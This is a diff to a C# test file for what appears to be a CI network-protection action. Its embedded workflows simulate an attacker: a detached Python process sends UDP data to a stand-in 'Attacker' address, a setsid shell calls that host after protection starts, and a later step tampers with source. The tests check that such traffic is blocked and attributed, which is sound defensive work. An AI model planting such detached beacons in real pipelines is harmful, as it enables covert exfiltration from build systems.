@@ -23,6 +23,8 @@ public sealed class LateActionTests(MachineFixture fixture) : IClassFixture<Mach
               - name: Comes first
                 run: |
                   {Attacker}/first
+                  git init -q -b main .; git config user.name lab; git config user.email lab@lab.test
+                  echo 'return 0;' > main.c; git add main.c; git commit -qm one
                   echo RUNNER_ENVIRONMENT=github-hosted >> "$GITHUB_ENV"
                   echo GITHUB_SERVER_URL=https://github.com >> "$GITHUB_ENV"
                   export RUNNER_ENVIRONMENT=github-hosted GITHUB_SERVER_URL=https://github.com
@@ -42,7 +44,69 @@ public sealed class LateActionTests(MachineFixture fixture) : IClassFixture<Mach
                   sudo -n "$AGENT" job status --json > "$SIGNS/status"
                   curl -sS --max-time 5 http://v4.test/allowed
                   {Attacker}/after || echo "curl says $?"
+                  echo 'return 9;' >> main.c
         """;
+
+    /// <summary>A shell whose parents have ended, and a process that has a socket already and said something by it.</summary>
+    private static string LeftBehind(string protect) => $$"""
+        name: Left
+        on: push
+        jobs:
+          build:
+            runs-on: self-hosted
+            steps:
+              - name: Leaves
+                id: leaves
+                run: |
+                  cat > udp.py <<'END'
+                  import os, socket, time
+                  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                  s.connect(("{{LabAddresses.Attacker}}", 9999))
+                  s.send(b"udp-first")
+                  while not os.path.exists(os.environ["SIGNS"] + "/go"): time.sleep(0.05)
+                  for i in range(3):
+                      try: s.send(b"udp-left")
+                      except OSError: pass
+                  open(os.environ["SIGNS"] + "/udp-sent", "w")
+                  time.sleep(60)
+                  END
+                  setsid python3 udp.py < /dev/null > /dev/null 2>&1 &
+                  setsid sh -c 'until [ -e "$SIGNS/go" ]; do sleep 0.05; done; {{Attacker}}/tcp-left; touch "$SIGNS/tcp-called"; sleep 60' < /dev/null > /dev/null 2>&1 &
+              {{protect}}
+              - name: After
+                id: after
+                run: |
+                  touch "$SIGNS/go"
+                  for i in $(seq 200); do [ -e "$SIGNS/udp-sent" ] && [ -e "$SIGNS/tcp-called" ] && exit 0; sleep 0.05; done
+                  exit 1
+        """;
+
+    private const string Protect = """
+        - name: Protect
+                uses: test/wrapped@v1
+                with:
+                  mode: block
+                  endpoints: v4.test:80
+        """;
+
+    [Fact]
+    public async Task What_a_step_left_running_before_protection_is_judged_and_named_after_that_step()
+    {
+        WorkflowRun control = await fixture.Machine.RunAsync(LeftBehind(""), "--user", RunnerMachine.User);
+        Assert.True(control.ConclusionOf() == "success", control.ToString());
+        Assert.True(control.Traffic.Contains("/tcp-left ") && control.Traffic.Contains("udp-left"), control.ToString());
+        WorkflowRun run = await fixture.Machine.RunAsync(LeftBehind(Protect), "--user", RunnerMachine.User);
+        Assert.True(run.ConclusionOf() == "success", run.ToString());
+        Assert.True(run.Traffic.Contains("udp-first"), run.ToString());
+        Assert.False(run.Traffic.Contains("/tcp-left ") || run.Traffic.Contains("udp-left"), run.ToString());
+        foreach ((int port, string program) in ((int, string)[])[(80, "curl"), (9999, "python3")])
+        {
+            JsonElement row = Assert.Single(
+                run.Report.Connections, row => JobReport.Text(row, "address") == LabAddresses.Attacker && row.GetProperty("port").GetInt32() == port);
+            Assert.Equal(("refused", "leaves"), (JobReport.Text(row, "verdict"), JobReport.Text(row, "step")));
+            Assert.Contains(program, JobReport.Text(run.Report.ProcessOf(JobReport.Text(row, "process")), "exe"), StringComparison.Ordinal);
+        }
+    }
 
     [Theory]
     [InlineData("self-hosted", "https://github.com", "job")]
@@ -71,7 +135,18 @@ public sealed class LateActionTests(MachineFixture fixture) : IClassFixture<Mach
         string message = gap.GetProperty("message").GetString()!;
         Assert.EndsWith("steps that ran before: Comes first, Comes second", message, StringComparison.Ordinal);
         Assert.True(double.Parse(message.Split(' ')[2], System.Globalization.CultureInfo.InvariantCulture) is > 0.5 and < 60, message);
-        Assert.Contains(
-            LabAddresses.Attacker, run.Step("Post Protect").GetProperty("summary").GetString(), StringComparison.Ordinal);
+        string summary = System.Net.WebUtility.HtmlDecode(run.Step("Post Protect").GetProperty("summary").GetString()!);
+        Assert.Contains(LabAddresses.Attacker, summary, StringComparison.Ordinal);
+
+        // Its report is not whole, and says what it lacks.
+        Assert.Contains("**incomplete**", summary, StringComparison.Ordinal);
+        Assert.Contains("2 steps ran before protection began (", summary, StringComparison.Ordinal);
+        Assert.DoesNotContain("in force before every step", summary, StringComparison.Ordinal);
+        Assert.False(run.Report.IsComplete, run.ToString());
+        run.Report.AssertBegan(fromStart: false, "Comes first", "Comes second");
+
+        // What was checked out before is known all the same.
+        JsonElement tampered = Assert.Single(run.Report.Findings, found => JobReport.Text(found, "id") == "source-tampered");
+        Assert.Equal("after", JobReport.Text(tampered, "step"));
     }
 }
